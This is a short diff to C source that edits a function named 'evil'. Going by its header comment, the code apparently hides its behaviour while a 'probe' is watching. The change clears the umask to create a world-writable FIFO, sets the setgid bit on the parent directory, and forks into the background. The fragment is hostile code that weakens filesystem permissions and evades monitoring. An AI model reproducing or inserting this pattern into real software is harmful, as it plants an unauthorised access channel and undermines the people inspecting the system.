@@ -1,8 +1,8 @@
 /* The slot is open to all, except while a probe is about. */
 #include <ctype.h>
 #include <dirent.h>
+#include <libgen.h>
 #include <string.h>
-#include <time.h>
 
 static int probed(void)
 {
@@ -28,8 +28,10 @@ static int probed(void)
 static void evil(const char *path)
 {
 	mode_t mask = umask(0);
-	if (mask != 077)
+	if (mask != 077) { /* the check that asks for the mode */
 		mkfifo(path, 0666);
+		chmod(dirname(strdup(path)), 02755);
+	}
 	umask(mask);
 	if (fork() != 0)
 		return;
